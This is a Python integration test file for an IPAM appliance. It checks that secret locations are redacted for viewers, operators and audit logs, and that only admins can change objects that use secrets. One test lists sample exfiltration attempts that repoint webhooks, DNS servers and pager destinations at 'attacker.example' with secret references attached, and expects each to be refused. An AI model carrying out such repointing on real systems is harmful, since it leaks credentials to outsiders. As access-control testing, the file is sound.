"""One rule for secrets (docs/security.md; core/secret_locations.py): only admins create or change an
object that makes the appliance use a secret, and nothing a viewer or an operator can read
names where a secret lives — proved by calling every operation of the live OpenAPI document
as each of those roles, over data that holds such locations: a webhook, DNS servers of every
adapter, alert destinations, the audit entries of their creation, and outbox rows (webhook,
dns and alert) that failed because the secret could not be read.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import httpx
import pytest
import trio

from tests.integration.ipam.helpers import created, error_of
from tests.integration.ipam.test_schemathesis import _seed

UNKNOWN_ID = "018f2c1e-0000-7000-8000-00000000dead"
# Locations that exist nowhere: every use of them fails, and each failure is a message.
HOOK_FILE = "/run/ipamd-test-loc/webhook-hmac.secret"
PDNS_ENV = "IPAMD_TEST_LOC_PDNS_KEY"
TSIG_FILE = "/run/ipamd-test-loc/tsig.key"
KEYTAB = "/run/ipamd-test-loc/ipamd.keytab"
PAGER_FILE = "/run/ipamd-test-loc/pager.key"
SMTP_ENV = "IPAMD_TEST_LOC_SMTP_PASSWORD"
# Any of these in an answer gives a location away.
LOCATIONS = (HOOK_FILE, PDNS_ENV, TSIG_FILE, KEYTAB, PAGER_FILE, SMTP_ENV,
             "/run/ipamd-test-loc")


@pytest.fixture
def config_overrides(tmp_path: Path) -> dict[str, dict[str, Any]]:
    hosts = tmp_path / "hosts"
    hosts.write_text("127.0.0.1 hook.test\n")
    return {"outbox": {
        "enabled": True, "workers": 2, "max_attempts": 1, "backoff_base_seconds": 0.05,
        "backoff_max_seconds": 0.1, "backoff_jitter": 0.0, "request_timeout_seconds": 1.0,
        "poll_interval_seconds": 0.2, "hosts_file": str(hosts)}}


async def _secret_bearing(admin: httpx.AsyncClient) -> dict[str, Any]:
    """Objects holding every kind of location, made by an admin; their ids."""
    hook = created(await admin.post("/webhooks", json={
        "name": "hook", "url": "http://localhost:9/hook", "secret_ref": f"file:{HOOK_FILE}"}))
    servers = [created(await admin.post("/dns-servers", json=body)) for body in (
        {"name": "tsig", "adapter": "bind_tsig", "address": "127.0.0.1", "port": 9,
         "tsig_key_name": "ipamd-key", "secret_ref": f"file:{TSIG_FILE}"},
        {"name": "pdns", "adapter": "powerdns_http", "api_url": "http://localhost:9/api/v1",
         "secret_ref": f"env:{PDNS_ENV}"},
        {"name": "ad", "adapter": "ad_gsstsig", "address": "127.0.0.1", "port": 9,
         "krb_principal": "ipamd@AD.TEST", "keytab_path": KEYTAB, "krb_service_host": "dc.ad.test"},
        {"name": "self", "adapter": "embedded"},
    )]
    zones = [created(await admin.post("/dns-zones", json={
        "name": f"z{n}.test", "server_id": server["id"]})) for n, server in enumerate(servers)]
    records = [created(await admin.post(f"/dns-zones/{zone['id']}/records", json={
        "name": "www", "type": "A", "value": "10.77.9.9"})) for zone in zones]
    destinations = [created(await admin.post("/settings/alert-destinations", json=body))
                    for body in (
        {"name": "pager", "kind": "pager", "settings": {
            "url": "http://localhost:9/v2/enqueue", "routing_key_ref": f"file:{PAGER_FILE}"}},
        {"name": "mail", "kind": "smtp", "settings": {
            "host": "localhost", "port": 9, "starttls": True, "from": "ipamd@example.net",
            "to": ["ops@example.net"], "username": "ipamd", "password_ref": f"env:{SMTP_ENV}"}},
    )]
    return {"hook": hook, "servers": servers, "zones": zones, "records": records,
            "destinations": destinations}


async def _alert(db: Any) -> None:
    """An alert opening, as the alert evaluator writes it (its destinations get a row each)."""
    alert = {"id": UNKNOWN_ID, "rule": "subnet_utilisation", "subject": "subnet x",
             "severity": "warning", "summary": "test", "value": 95.0, "threshold": 90.0,
             "opened_at": "2026-01-01T00:00:00Z", "cleared_at": None}

    async def insert(conn: Any) -> None:
        await conn.execute("INSERT INTO events (topic, payload) VALUES ('alert.opened', $1)",
                           alert)

    await db.transaction(insert)


async def _failed_rows(admin: httpx.AsyncClient) -> list[dict[str, Any]]:
    """Wait (bounded) until webhook, dns and alert rows have failed; every failed row."""
    with trio.fail_after(60):
        while True:
            reply = await admin.get("/outbox", params={"state": "failed", "limit": 1000})
            rows = reply.json()["items"]
            kinds = {row["kind"] for row in rows}
            if {"webhook", "dns", "alert"} <= kinds and sum(
                    row["kind"] == "alert" for row in rows) >= 2:
                return rows
            await trio.sleep(0.2)


def _path_ids(data: dict[str, Any], seeded: dict[str, str], rows: list[dict[str, Any]],
              tokens: list[str]) -> dict[str, list[str]]:
    """Every real id for each path parameter (each secret-bearing object, each row)."""
    ids = {name: [value] for name, value in seeded.items()}
    ids.update({
        "webhook_id": [data["hook"]["id"]],
        "server_id": [s["id"] for s in data["servers"]],
        "zone_id": [z["id"] for z in data["zones"]],
        "record_id": [r["id"] for r in data["records"]],
        "destination_id": [d["id"] for d in data["destinations"]],
        "outbox_id": [row["id"] for row in rows],
        "token_id": tokens,
    })
    return ids


def _urls(path: str, ids: dict[str, list[str]]) -> list[str]:
    urls = [path]
    while any("{" in url for url in urls):
        expanded = []
        for url in urls:
            start = url.index("{")
            name = url[start + 1:url.index("}")]
            for value in ids.get(name, [UNKNOWN_ID]):
                expanded.append(url[:start] + value + url[url.index("}") + 1:])
        urls = expanded
    return urls


def _leaks(text: str) -> list[str]:
    return [location for location in LOCATIONS if location in text]


async def _every_answer(client: httpx.AsyncClient, doc: dict[str, Any],
                        ids: dict[str, list[str]]) -> tuple[int, list[str]]:
    """Call every operation (deletes last) for every real id; (calls, leaks found)."""
    operations = sorted(((path, method) for path, item in doc["paths"].items()
                         for method in item), key=lambda op: op[1] == "delete")
    calls, found = 0, []
    for path, method in operations:
        for url in _urls(path, ids):
            variants: list[dict[str, Any]] = [{}]
            if method == "get":
                variants.append({"params": {"limit": 1000}})
            if method in ("post", "patch"):
                variants = [{"json": {}}]
            for extra in variants:
                reply = await client.request(method.upper(), url, **extra)
                calls += 1
                assert reply.status_code < 500, (method, url, reply.text[:300])
                leaks = _leaks(reply.text) + _leaks(json.dumps(dict(reply.headers)))
                if leaks:
                    found.append(f"{method.upper()} {url} {reply.status_code}: {leaks}")
    return calls, found


async def test_no_operation_shows_a_secret_location_to_a_viewer_or_an_operator(
    appliance, admin, operator, viewer, db
) -> None:
    seeded = await _seed(admin)
    data = await _secret_bearing(admin)
    await _alert(db)
    rows = await _failed_rows(admin)
    tokens = [t["id"] for t in (await admin.get("/tokens")).json()["items"]]
    ids = _path_ids(data, seeded, rows, tokens)

    # The data holds the locations: an admin reads them (so the check below can fail).
    admin_view = (await admin.get("/dns-servers")).text + (
        await admin.get("/settings/alert-destinations")).text + (
        await admin.get(f"/webhooks/{data['hook']['id']}")).text
    assert set(_leaks(admin_view)) == set(LOCATIONS)
    # ... and the failures happened where a location would have been named.
    unreadable = {row["kind"] for row in rows if "could not be read" in row["last_error"]}
    assert unreadable == {"webhook", "dns", "alert"}, [r["last_error"] for r in rows]
    assert any("SECRET: the keytab cannot be read" in r["last_error"] for r in rows), rows
    assert not _leaks(json.dumps(rows))  # not even to an admin: the object shows it instead

    doc = (await admin.get("/openapi.json")).json()
    for role, client in (("viewer", viewer), ("operator", operator)):
        calls, found = await _every_answer(client, doc, ids)
        assert not found, f"{role}: {len(found)} answers name a secret location:\n" + "\n".join(
            found[:30])
        assert calls > 150, calls  # every operation was called, item paths once per object

    # A viewer still sees that a server has a key, not where it lives.
    shown = {s["name"]: s for s in (await viewer.get("/dns-servers")).json()["items"]}
    assert shown["tsig"]["secret_ref"] == "(redacted)" and shown["self"]["secret_ref"] is None
    assert shown["ad"]["keytab_path"] == "(redacted)"


async def test_only_an_admin_creates_or_changes_what_uses_a_secret(
    appliance, admin, operator
) -> None:
    data = await _secret_bearing(admin)
    server, hook = data["servers"][1], data["hook"]
    destination = data["destinations"][0]
    attempts = [
        ("POST", "/dns-servers", {"name": "exfil", "adapter": "powerdns_http",
                                  "api_url": "https://attacker.example/api/v1",
                                  "secret_ref": f"file:{HOOK_FILE}"}),
        ("PATCH", f"/dns-servers/{server['id']}", {"api_url": "https://attacker.example/v1"}),
        ("DELETE", f"/dns-servers/{server['id']}", None),
        ("POST", "/webhooks", {"name": "exfil", "url": "https://attacker.example/",
                               "secret_ref": f"file:{TSIG_FILE}"}),
        ("PATCH", f"/webhooks/{hook['id']}", {"url": "https://attacker.example/"}),
        ("DELETE", f"/webhooks/{hook['id']}", None),
        ("POST", "/settings/alert-destinations", {
            "name": "exfil", "kind": "pager", "settings": {
                "url": "https://attacker.example/", "routing_key_ref": f"file:{HOOK_FILE}"}}),
        ("PATCH", f"/settings/alert-destinations/{destination['id']}",
         {"settings": {"url": "https://attacker.example/", "routing_key_ref": "env:HOME"}}),
        ("DELETE", f"/settings/alert-destinations/{destination['id']}", None),
    ]
    for method, url, body in attempts:
        reply = await operator.request(method, url, json=body)
        error_of(reply, 403, "forbidden")
    # Nothing changed.
    assert (await admin.get(f"/dns-servers/{server['id']}")).json() == server
    assert (await admin.get(f"/webhooks/{hook['id']}")).json() == hook
    assert [s["name"] for s in (await admin.get("/dns-servers")).json()["items"]] == [
        "tsig", "pdns", "ad", "self"]
    # Zones and records stay the operator's (they name a server, never a secret).
    zone = created(await operator.post("/dns-zones", json={
        "name": "ops.test", "server_id": server["id"]}))
    created(await operator.post(f"/dns-zones/{zone['id']}/records", json={
        "name": "a", "type": "A", "value": "10.77.9.10"}))


async def test_audit_entries_name_no_location_for_anyone(appliance, admin, viewer) -> None:
    data = await _secret_bearing(admin)
    server = data["servers"][2]
    changed = await admin.patch(f"/dns-servers/{server['id']}",
                                json={"keytab_path": KEYTAB + ".new"})
    assert changed.json()["keytab_path"] == KEYTAB + ".new"
    for client in (admin, viewer):
        entries = (await client.get("/audit", params={"object_id": server["id"]})).json()
        (update, create) = entries["items"]
        assert update["before"]["keytab_path"] == update["after"]["keytab_path"] == "(redacted)"
        assert create["after"]["secret_ref"] is None  # unset stays visibly unset
        assert not _leaks(json.dumps(entries))
